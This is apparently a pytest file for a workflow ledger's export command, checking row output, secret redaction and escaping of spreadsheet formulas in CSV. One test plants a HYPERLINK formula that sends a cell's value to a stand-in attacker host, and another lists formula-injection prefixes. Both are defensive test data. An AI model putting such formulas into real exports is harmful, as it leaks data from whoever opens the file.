# Licensed under the Apache License, Version 2.0. See LICENSE.
"""``ledger export``: every row once, as JSON lines or CSV that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pytest

from airflow_provider_jimeng.cli.export import safe_cell
from airflow_provider_jimeng.cli.render import COLUMNS
from airflow_provider_jimeng.ledger.records import Provenance
from airflow_provider_jimeng.ledger.states import TaskState

from tests.ledger.kit import Bench, unique

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import Command


def test_every_row_once_with_its_landings(bench: Bench, ledger: Command, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("airflow_provider_jimeng.cli.export._PAGE", 2)
    rows = [bench.landed(), bench.in_state(TaskState.FAILED), bench.landed(), bench.unknown(), bench.sent()]
    done = ledger("export", "--account", bench.scope.account)
    assert done.code == 0
    assert done.ids == [row.id for row in reversed(rows)]
    assert [len(line["landings"]) for line in done.lines] == [0, 0, 1, 0, 1]
    assert set(done.lines[0]) == {*COLUMNS, "landings"}
    assert done.lines[0]["created_at"].endswith("+00:00")


def test_nothing_is_an_empty_output(ledger: Command):
    done = ledger("export", "--account", unique("nobody-"))
    assert (done.code, done.out) == (0, "")


def test_the_filters_of_list_hold(bench: Bench, ledger: Command):
    bench.landed()
    unknown = bench.unknown()
    assert ledger("export", "--account", bench.scope.account, "--state", "unknown").ids == [unknown.id]


def test_csv_for_spreadsheets(bench: Bench, ledger: Command):
    bench.claimed(
        provenance=Provenance('=HYPERLINK("http://evil.example/?x="&A1)', "+run", "@task"), force_new="-why"
    )
    row = bench.landed()
    text = ledger("export", "--account", bench.scope.account, "--format", "csv").out
    landed, claimed = csv.DictReader(io.StringIO(text))
    assert list(landed) == [*COLUMNS, "landings"]
    assert claimed["dag_id"].startswith("'=HYPERLINK")
    assert (claimed["run_id"], claimed["airflow_task_id"], claimed["force_new"]) == (
        "'+run",
        "'@task",
        "'-why",
    )
    assert claimed["map_index"] == "-1"
    assert (landed["id"], landed["extra"], landed["code"]) == (str(row.id), "false", "10000")
    assert json.loads(landed["landings"])[0]["bytes"] == 1
    assert json.loads(landed["inputs"]) == {"image_url": "https://a.example/1.png"}


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tx",
        " =1",
        "\u00a0=1",
        "\u200b=1",
        "＝1",
        "＋1",
        "－1",
        "＠a",
    ],
)
def test_no_cell_is_a_formula(text: str):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["plain", "a=b", "数据", 5, -5, 0.5, "", "1-2"])
def test_harmless_cells_stay_as_they_are(value: object):
    assert safe_cell(value) == value


def test_values_that_are_no_text():
    assert [safe_cell(each) for each in (None, True, {"a": [1]})] == ["", "true", '{"a":[1]}']


def test_no_secret_leaves(bench: Bench, ledger: Command):
    bench.claimed(
        inputs='{"video_url":"https://b.example/v.mp4?sig=SECRET#SECRET"}',
        force_new="https://x.example/?k=SECRET",
    )
    for kind in ("csv", "jsonl"):
        out = ledger("export", "--account", bench.scope.account, "--format", kind).out
        assert "SECRET" not in out
        assert "send_token" not in out
        assert "https://b.example/v.mp4" in out


def test_a_file_is_written_whole_and_never_replaced(bench: Bench, ledger: Command, tmp_path: Path):
    row = bench.landed()
    path = tmp_path / "rows.jsonl"
    done = ledger("export", "--account", bench.scope.account, "--output", path)
    assert (done.code, done.out) == (0, "")
    assert "1 rows written" in done.err
    assert json.loads(path.read_text())["id"] == row.id
    before = path.read_bytes()
    assert ledger("export", "--account", bench.scope.account, "--output", path).code == 2
    assert path.read_bytes() == before
    assert [each.name for each in tmp_path.glob("rows*")] == ["rows.jsonl"]


def test_a_file_that_can_not_be_written_is_told(ledger: Command, tmp_path: Path):
    done = ledger("export", "--output", tmp_path / "no folder" / "rows.csv")
    assert done.code == 1
    assert "no folder" in done.err
